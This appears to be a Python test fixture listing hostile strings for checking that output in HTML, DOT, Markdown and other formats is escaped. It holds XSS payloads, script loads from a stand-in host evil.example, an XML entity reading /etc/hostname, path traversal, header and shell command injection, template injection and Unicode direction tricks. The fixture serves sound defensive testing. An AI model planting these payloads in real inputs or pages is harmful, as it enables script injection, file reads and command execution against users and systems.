"""Texts that strangers put where words belong, each meant for one of the languages that outputs are written in."""

from __future__ import annotations

PAYLOADS: dict[str, str] = {
    # elements
    "script": "<script>alert(1)</script>",
    "script in capitals": "</ScRiPt ><SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "image": "<img src=x onerror=alert(1)>",
    "end of a title": "</title></style></textarea><svg/onload=alert(1)>",
    "end of a style sheet": "</style><style>*{background:url(//evil.example)}</style>",
    "end of a cell": "</td></tr></table><h1>gone</h1>",
    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "frame of another origin": "<iframe src=https://evil.example></iframe><object data=//evil.example>",
    "base": "<base href=https://evil.example/><link rel=stylesheet href=//evil.example>",
    "refresh": '<meta http-equiv=refresh content="0;url=//evil.example">',
    "form": "<form action=//evil.example><input name=q autofocus onfocus=alert(1)></form>",
    "template": "<template shadowrootmode=open><script>alert(1)</script></template>",
    "mutation": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "open tag": "<a b='",
    "open comment": "<!--",
    "closed comment": "--><script>alert(1)</script><!-- --!>",
    "processing instruction": '<?xml-stylesheet href="//evil.example"?><?php echo 1 ?>',
    "end of character data": "]]><script>alert(1)</script><![CDATA[",
    "doctype with an entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]>&b;',
    "undefined entity": "&undefined; &lt;b&gt; &#60;i&#62; &#x3c;u&#x3e; &#0; &#1; &amp;lt;",
    # attributes
    "double quote": '" onmouseover="alert(1)" x="',
    "single quote": "' onfocus='alert(1)' autofocus tabindex='0",
    "backtick": "` onload=alert(1) `",
    "attribute without quotes": "x onmouseover=alert(1) //",
    "style": "red;background:url(https://evil.example/a.png);}*{display:none",
    "end of a rule": "} body { display: none } @import url(//evil.example);",
    # addresses
    "script address": "javascript:alert(1)",
    "script address in disguise": "JaVaScRiPt&colon;alert(1)//https://fine.example",
    "data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file address": "file:///etc/hostname",
    "address of another scheme": "vbscript:msgbox(1) blob:https://a/b ms-word:ofe|u|//x",
    "address with a quote": 'https://evil.example/"onmouseover="alert(1)',
    "address with brackets": "https://evil.example/<script>)](javascript:alert(1))",
    "address that is one": "https://fine.example/a?b=c&d=(e)*f*_g_|h%20i#j~k",
    "mail address": "mailto:somebody@fine.example",
    "address without a scheme": "//evil.example/%0d%0aSet-Cookie:a=b",
    "way out of the folder": "../../../../etc/hostname",
    "absolute path": "/etc/hostname",
    "path of another system": "..\\..\\C:\\con\\nul.html",
    # programs
    "JavaScript": "\\';alert(1);//${alert(1)}`+alert(1)+`",
    "end of a JavaScript text": "\\",
    "template language": "{{7*7}}{% for x in y %}{# #}{{ ''.__class__.__mro__ }}<%= 7*7 %>#{7*7}${7*7}",
    "shell": "$(touch pwned) `touch pwned`; touch pwned | touch pwned && touch pwned #",
    "format": "%s%n%(title)s{0}{title}{0.__class__}%%",
    # DOT
    "end of a DOT text": 'x", URL="javascript:alert(1)", image="/etc/hostname',
    "end of a DOT graph": '"]; } digraph evil { a -> b [label="',
    "DOT escapes": "\\N \\G \\H \\T \\E \\L \\l \\r \\n \\\\",
    "DOT label in HTML": '<<TABLE><TR><TD HREF="javascript:alert(1)"><IMG SRC="/etc/hostname"/></TD></TR></TABLE>>',
    "DOT font": 'Times" onload="alert(1)',
    # Markdown
    "Markdown link": "[click](javascript:alert(1)) ![i](https://evil.example/a.png) [r][1] <https://evil.example>",
    "Markdown definition": "[1]: https://evil.example 'title'",
    "Markdown footnote": "[^1]: mine [^1] ^[inline]",
    "Markdown table": "| a | b |\\| `|` ||",
    "Markdown heading": "# not a heading",
    "Markdown rule": "---",
    "Markdown list": "1. not a list",
    "Markdown item": "- [x] not a task",
    "Markdown quote": "> > not a quote",
    "Markdown fence": "```mermaid",
    "Markdown tildes": "~~~ ~~struck~~ ==marked== H~2~O x^2^",
    "Markdown emphasis": "**bold** __bold__ _it_ *it* `code` ***",
    "Markdown code": "`` ` `` `<br>`",
    "Markdown mention": "@everyone #1 GH-1 a/b#1 a@b.example :bomb: www.evil.example https://evil.example",
    "Markdown formula": "$\\sqrt{2}$ $$x$$ \\(y\\) \\[z\\]",
    "Markdown in Markdown": "+++ === *** !!! ??? ::: :::note",
    # lines
    "lines": "one\n# two\n\n- three\n\n    four\n| a | b |\n|---|---|\n<p>\n",
    "build commands": "::error::x\n::stop-commands::y\n##[group]z\n##vso[task.setvariable variable=a]b",
    "tabs": "a\tb\t\tc",
    # writing
    "override of direction": "a\u202edetrevni\u202c \u2066isolated\u2069 \u200fmark\u200e",
    "open override": "\u202e\u202d\u2067\u2068\u202a\u202b",
    "zero width": "in\u200bvis\u200cib\u200dle\u2060 \u00ad\u034f\u180e\u3164",
    "one long word": "Donaudampfschifffahrt" * 15,
    "one long word without letters": "=" * 300,
    "long text": "words and " * 60,
    "family": "👩‍👩‍👧‍👦 👨🏿‍🚀 🇺🇦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 1️⃣",
    "flood of marks": "Z" + "\u0335\u0321\u0489\u0347\u0316" * 40,
    "mark without a letter": "\u0301\u20dd\u0308 a",
    "both directions": "mixed שלום and עברית 12 % (see مرحبا) end.",
    "right to left only": "עברית, 12–14 (אחת)!",
    "ideographs": "没有空格的很长的一句话要在格子里换行，标点也不能跑到行首去。" * 6,
    "one ligature": "﷽" * 12,
    "beyond the first plane": "𝕏𐍈𠜎𓀀 \U000e0041\U000e007f \ufdd0 \ufffd",
    "dotless and sharp": "İıſßŉǰΐﬃ",
    # names that programs know
    "prototype": "__proto__",
    "property": "constructor",
    "nothing": "null",
}
"""By name; all of them may stand in a map file."""

PLAIN = "Plain words"
PLAIN_ADDRESS = "https://plain.example/"
"""What stands in the same places of the maps that the others are held against."""

HOSTILE_IDS = {
    "property": "constructor",
    "right to left": "שלום",
    "marks": "q" + "\u0316" * 10 + "\u0301" * 10,
    "ideographs": "名字",
    "long": "x" * 50,
    "beyond the first plane": "𝕏𐍈",
    "number": "007",
    "hyphens": "a--b__c",
}
"""Ends of ids, as the format allows them."""
